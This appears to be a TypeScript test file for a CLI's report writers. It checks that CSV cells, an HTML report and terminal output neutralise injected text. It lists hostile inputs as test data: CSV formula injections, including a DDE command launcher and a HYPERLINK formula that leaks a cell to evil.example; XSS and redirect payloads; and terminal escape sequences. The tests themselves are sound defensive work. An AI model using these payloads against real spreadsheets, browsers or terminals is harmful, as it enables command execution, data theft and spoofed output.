/** What servers and files say becomes no formula, no markup and no command to a terminal. */
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { csvRows, folderRows, openCsvReport } from 'smileid-edge/node'
import { type ReportFacts, reportPage } from '../../src/cli/commands/backfill/report'
import { createStatistics } from '../../src/cli/commands/backfill/statistics'
import { formatPairs, printable } from '../../src/cli/text'
import { all } from '../support/all'
import { checkProperty } from '../support/property'

// The table of all characters has 86 MB, and stays: it is no part of what the tests keep.
fc.sample(fc.string({ unit: 'binary' }), 1)

let dir = ''
beforeAll(async () => void (dir = await mkdtemp(join(tmpdir(), 'injection-'))))
afterAll(() => rm(dir, { recursive: true }))

const FORMULAS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+1',
  '-1',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '=HYPERLINK("https://evil.example?"&A1,"x")',
  '-2+3+cmd|x',
  '=1","=2',
  '"=1"',
  '\n=1',
  '=\0',
]
const MARKUP = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '</title><script>',
  '</style><script>',
  "'><svg onload=alert(1)>",
  '<!--',
  '-->',
  ']]>',
  '&lt;script&gt;',
  '&#60;script&#62;',
  '<iframe srcdoc="&lt;script&gt;">',
  '<a href=javascript:alert(1)>',
  '<meta http-equiv=refresh content=0;url=//evil.example>',
  '</main></html><script>',
  '<base href=//evil.example>',
  '\u003cscript\u003e',
  '<\0script>',
  '＜script＞',
  '${alert(1)}',
  '{{constructor}}',
  '<link rel=stylesheet href=//evil.example>',
  '<form action=//evil.example><button>',
]
const TERMINAL = [
  '\x1b[2J',
  '\x1b]0;title\x07',
  '\x1b]8;;http://evil.example\x1b\\x',
  '\x9b2J',
  '\r overwritten',
  '\n forged line',
  '\x08\x08',
  '\u202eevil',
  '\u2066x',
  '\x00',
  '\x7f',
  '\x1bP+q\x1b\\',
  '\x1b[6n',
]

describe.each(FORMULAS)('%j in a CSV report', (text) => {
  it('that the service or the SDK says', async () => {
    await writeFile(join(dir, 'in.csv'), 'user_id,user_created_at,photo\nu,2021-08-12,a.jpg\n')
    const report = await openCsvReport(join(dir, 'errors.csv'))
    for await (const row of csvRows(join(dir, 'in.csv')))
      await report.add({ row, state: 'rejected', code: text, text })
    await report.close()
    const [, cells] = parse(await readFile(join(dir, 'errors.csv'), 'utf8'), {
      record_delimiter: '\n',
    }) as string[][]
    const [line, state, code, message, ...input] = cells!
    expect([line, state, ...input]).toEqual(['2', 'rejected', 'u', '2021-08-12', 'a.jpg'])
    for (const cell of [code!, message!]) {
      expect(cell).not.toMatch(/^[=+\-@\t\r]/)
      expect(cell.endsWith(text)).toBe(true)
    }
  })
})

it('any texts stay in their cells', async () => {
  await checkProperty(
    fc.asyncProperty(
      fc.string({ unit: 'binary' }).filter((text) => !/\p{Surrogate}/u.test(text)),
      fc.constantFrom(...FORMULAS, ''),
      async (random, start) => {
        const text = start + random
        const report = await openCsvReport(join(dir, 'any.csv'))
        for (const row of [{ columns: { a: '1' } }, { columns: { a: '2' } }])
          await report.add({ row, state: 'failed', code: text, text })
        await report.close()
        const rows = parse(await readFile(join(dir, 'any.csv'), 'utf8'), {
          record_delimiter: '\n',
        }) as string[][]
        expect(rows.map((cells) => cells.length)).toEqual(Array(3).fill(rows[0]!.length))
        for (const cell of rows.slice(1).flatMap((cells) => cells.slice(-2)))
          expect(cell).not.toMatch(/^[=+\-@\t\r]/)
      },
    ),
    { numRuns: 100 },
  )
})

it.each(['=1+1', '@x', '-x'])('a file that is called %j.jpg', async (name) => {
  // The name is a user_id then, which has to come back as it is.
  const folder = join(dir, `folder${name.length}`)
  await rm(folder, { recursive: true, force: true })
  await mkdir(folder)
  await writeFile(join(folder, `${name}.jpg`), 'x')
  const report = await openCsvReport(join(dir, 'folder.csv'))
  for (const row of await all(folderRows(folder, { user_created_at: '2021-08-12' })))
    await report.add({ row, state: 'invalid', code: name, text: name })
  await report.close()
  const [, cells] = parse(await readFile(join(dir, 'folder.csv'), 'utf8')) as string[][]
  expect([cells!.includes(name), ...cells!.slice(2, 4)]).toEqual([true, `'${name}`, `'${name}`])
})

const facts = (text: string): ReportFacts => {
  let now = 0
  const statistics = createStatistics(() => (now += 100))
  for (const state of ['enrolled', 'rejected', 'failed'] as const)
    statistics.add({ state, code: text, text: `${text} ${state}` })
  statistics.add({
    state: 'invalid',
    error: { issues: [{ path: text, code: 'missing', message: text }] } as never,
  })
  return {
    ending: text,
    target: { environment: text, host: text },
    startedAt: 0,
    endedAt: 1000,
    preflight: {
      rows: 4,
      chosen: 4,
      problems: 1,
      warnings: 0,
      done: 0,
      toSend: 3,
      duplicatePhotos: new Map(),
      hints: [],
    },
    statistics,
    requests: 3,
    isDry: false,
  }
}
/** What a browser would take for markup. */
const skeleton = (page: string) => [...page.matchAll(/<[^>]*>?/g)].map(([tag]) => tag)

describe.each(MARKUP)('%j in the HTML report', (text) => {
  it('is text, wherever it stands', () => {
    // Line by line as harmless words do.
    expect(skeleton(reportPage(facts(text)))).toEqual(skeleton(reportPage(facts('words'))))
    expect(reportPage(facts(text))).toContain("default-src 'none'")
  })
})

it('any texts leave the markup of the report as it is', async () => {
  const known = skeleton(reportPage(facts('words')))
  await checkProperty(
    fc.property(fc.string({ minLength: 1, unit: 'binary' }), fc.constantFrom(...MARKUP), (random, markup) => {
      expect(skeleton(reportPage(facts(`x${random}${markup}${random}`.replaceAll('_', ''))))).toEqual(known)
    }),
    { numRuns: 200 },
  )
})

describe.each(TERMINAL)('%j in a terminal', (text) => {
  it('is not obeyed', () => {
    for (const shown of [printable(`a${text}b`), formatPairs({ code: `a${text}b`, text: `${text}` })])
      expect(shown.replace(/\n/, '')).not.toMatch(/[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/)
    expect(formatPairs({ code: `a${text}b` }).split('\n')).toHaveLength(1)
  })
})
